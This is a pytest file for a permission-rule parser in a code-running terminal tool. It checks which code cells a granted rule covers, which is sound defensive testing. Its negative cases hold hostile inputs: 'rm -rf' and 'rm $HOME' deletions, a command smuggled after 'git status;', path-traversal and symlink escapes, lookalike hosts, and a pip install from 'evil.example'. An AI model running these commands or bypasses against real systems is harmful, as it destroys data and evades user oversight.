"""Rules: what their words say, what they cover, and above all what they don't."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codeact_tui.effects.analysis import analyse
from codeact_tui.effects.rules import NotARule, Place, covering, offered, parse_rule, rule_words, sentence
from codeact_tui.protocol.permissions import PermissionScope, Rule

HERE = Place("/work/here")
DATA = Rule("read", "./data")
OUT = Rule("write", "./out")
ANY: list[Rule] = [
    *(Rule("compute"), Rule("read", "."), Rule("write", "."), Rule("delete", "."), Rule("network", "example.org")),
    *(Rule("process", "git status"), Rule("install", "numpy pandas")),
]


def covers(rule: Rule, code: str, place: Place = HERE) -> bool:
    return covering([rule], analyse(code), place) == (rule,)


@pytest.mark.parametrize(
    ("rule", "words"),
    [
        (DATA, "reading ./data"),
        (Rule("write", "./my data"), "writing './my data'"),
        (Rule("network", "example.org:8443"), "reaching example.org:8443"),
        (Rule("process", "git log -1"), "running git log -1"),
        (Rule("compute"), "what only computes"),
    ],
)
@pytest.mark.parametrize("scope", ["session", "project"])
def test_a_rule_is_read_as_it_is_written(rule: Rule, words: str, scope: PermissionScope) -> None:
    assert rule_words(rule) == words
    assert parse_rule(sentence(rule, scope)) == (rule, scope)
    assert parse_rule(words, scope=scope) == (rule, scope)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "begins with reading"),
        ("everything", "begins with reading"),
        ("reading", "begins with reading"),
        ("reading a b", "one folder or file"),
        ("reading 'a", "one folder or file"),
        ("reading ~/x", "by its path"),
        ("reading *.csv", "by its path"),
        ("reading /", "every file"),
        ("reading ./\u202edata", "can't be seen"),
        ("reading https://example.org/x", "by its path"),
        ("reaching example.org/x", "one host"),
        ("reaching ex\u0430mple.org", "one host"),
        ("running rm $HOME", "stand for something else"),
        ("running `x`", "stand for something else"),
        ("installing git+https://example.org/x", "name packages"),
        ("installing ./x", "name packages"),
        ("reading " + "x" * 500, "too long"),
        ("evaluating x", "begins with reading"),
    ],
)
def test_what_is_no_rule_is_said_to_be_none(text: str, said: str) -> None:
    with pytest.raises(NotARule, match=said):
        parse_rule(text)


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        (DATA, "open('data/x.csv')"),
        (DATA, "open('./data/deep/x.csv').read()"),
        (DATA, "import pandas as pd\ndf = pd.read_csv('/work/here/data/x.csv')\ndf.describe()"),
        (DATA, "import glob\nglob.glob('data/*.csv')"),
        (Rule("read", "./a.csv"), "open('a.csv')"),
        (OUT, "open('out/x', 'w').write('1')"),
        (Rule("delete", "./out"), "import os\nos.remove('out/x')"),
        (Rule("delete", "./out"), "import os\nfor f in ['out/x', 'out/y']:\n    os.remove(f)"),
        (Rule("network", "example.org"), "import requests\nrequests.get('https://example.org/x')"),
        (Rule("process", "git status"), "!git status"),
        (Rule("process", "git status"), "import subprocess\nsubprocess.run(['git', 'status'])"),
        (Rule("compute"), "1 + 1"),
    ],
)
def test_a_rule_covers_what_it_says(rule: Rule, code: str) -> None:
    assert covers(rule, code)


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        (DATA, "1 + 1"),
        (DATA, "open('database')"),
        (DATA, "open('data/../secret')"),
        (DATA, "open('data/x', 'w')"),
        (DATA, "open('data/x', mode)"),
        (DATA, "open(name)"),
        (DATA, "open('~/data/x')"),
        (DATA, "open('data/x')\nopen('other')"),
        (DATA, "open('data/x')\neval('1')"),
        (DATA, "open('data/x')\nunknown_thing()"),
        (DATA, "open('data/x')\nwhile True: pass"),
        (DATA, "open('data/\u200bx')"),
        (DATA, "import glob\nglob.glob('data/*/../../x')"),
        (DATA, "open('file://data/x')"),
        (DATA, "import glob, os\nfor f in glob.glob('data/*.csv'):\n    open(f)"),
        (Rule("delete", "./data"), "import glob, os\nfor f in glob.glob('data/*.csv'):\n    os.remove(f)"),
        (Rule("process", "rm -rf …"), "import os\nos.system(f'rm -rf {x}')"),
        (DATA, "def"),
        (DATA, "import os\nopen('data/x')\nlist(map(os.remove, names))"),
        (Rule("process", "git status"), "import subprocess\nsubprocess.run(['git', 'status'], cwd='/other')"),
        (Rule("process", "git status"), "import subprocess\nsubprocess.run(['git', 'status'], executable='./x')"),
        (Rule("process", "git status"), "import subprocess\nsubprocess.run(['git', 'status'], env=e)"),
        (Rule("process", "git status x"), "import subprocess\nsubprocess.run(['git', 'status x'])"),
        (Rule("compute"), "img.save('a.png')"),
        (Rule("compute"), "class A:\n    import os\n    os.remove('x')"),
        (OUT, "open('out/x')"),
        (Rule("network", "example.org"), "import requests\nrequests.get('https://example.org.evil.net/')"),
        (Rule("network", "example.org"), "import requests\nrequests.get('https://example.org:8443/')"),
        (Rule("network", "example.org"), "import requests\nrequests.get(url)"),
        (Rule("network", "example.org"), "import requests\nrequests.get('https://ex\u0430mple.org')"),
        (Rule("process", "git status"), "!git status; rm x"),
        (Rule("process", "git status"), "!git  status"),
        (Rule("process", "ls"), "!ls $x"),
        (Rule("process", "ls {x}"), "!ls {x}"),
        (Rule("process", "subprocess.run"), "import subprocess\nsubprocess.run(words)"),
        (Rule("process", "git \u2026"), "import subprocess\nsubprocess.run(['git', word])"),
        (Rule("install", "numpy"), "%pip install numpy evil"),
        (Rule("install", "numpy"), "%pip install ./numpy"),
        (Rule("install", "numpy"), "%pip install --index-url http://evil.example numpy"),
        (Rule("compute"), "open('x')"),
        (Rule("compute"), "f()"),
        (Rule("compute"), "import nowhere"),
    ],
)
def test_a_rule_covers_nothing_else(rule: Rule, code: str) -> None:
    assert not covers(rule, code)


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("1", ["what only computes"]),
        ("open('data/x')", ["reading ./data"]),
        ("open('x')", ["reading ./x"]),
        ("open('/etc/hosts')", ["reading /etc/hosts"]),
        ("open('data/x')\nopen('data/y')\nopen('out/z', 'w')", ["reading ./data", "writing ./out"]),
        ("import os\nos.remove('out/x')", ["deleting ./out/x"]),
        ("!git status", ["running git status"]),
    ],
)
def test_the_rule_that_is_offered_covers_the_cell(code: str, words: list[str]) -> None:
    told = analyse(code)
    rules = offered(told, HERE)
    assert rules is not None
    assert [rule_words(rule) for rule in rules] == words
    assert set(covering(rules, told, HERE)) == set(rules)


@pytest.mark.parametrize("code", ["eval('1')", "open(name)", "def", "f()", "open('data/x')\nf()", "while True: pass"])
def test_what_can_t_be_told_is_offered_no_rule(code: str) -> None:
    assert offered(analyse(code), HERE) is None


def test_a_link_leads_no_rule_elsewhere(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "data").mkdir(parents=True)
    (tmp_path / "secret").mkdir()
    place = Place(str(project), real=lambda path: str(Path(path).resolve()))
    assert covers(DATA, "open('data/x')", place)
    (project / "data" / "link").symlink_to(tmp_path / "secret")
    assert not covers(DATA, "open('data/link/x')", place)
    (project / "other").symlink_to(tmp_path / "secret")
    assert not covers(Rule("read", "./other"), "open('other/x')", place)


def test_a_folder_that_the_cells_went_to_counts() -> None:
    assert not covers(DATA, "open('data/x')", Place("/work/here", "/etc"))
    assert covers(DATA, "open('x')", Place("/work/here", "/work/here/data"))


@given(st.text(max_size=60))
def test_whatever_is_written_there_no_rule_says_more_than_it_shows(text: str) -> None:
    try:
        rule, scope = parse_rule(text)
    except NotARule:
        return
    assert parse_rule(sentence(rule, scope)) == (rule, scope)


@given(st.lists(st.sampled_from(ANY), max_size=4), st.sampled_from(["eval('1')", "g(1)", "open(x)", "def"]))
def test_no_rules_together_cover_what_can_t_be_told(rules: list[Rule], code: str) -> None:
    assert covering(rules, analyse(code), HERE) == ()
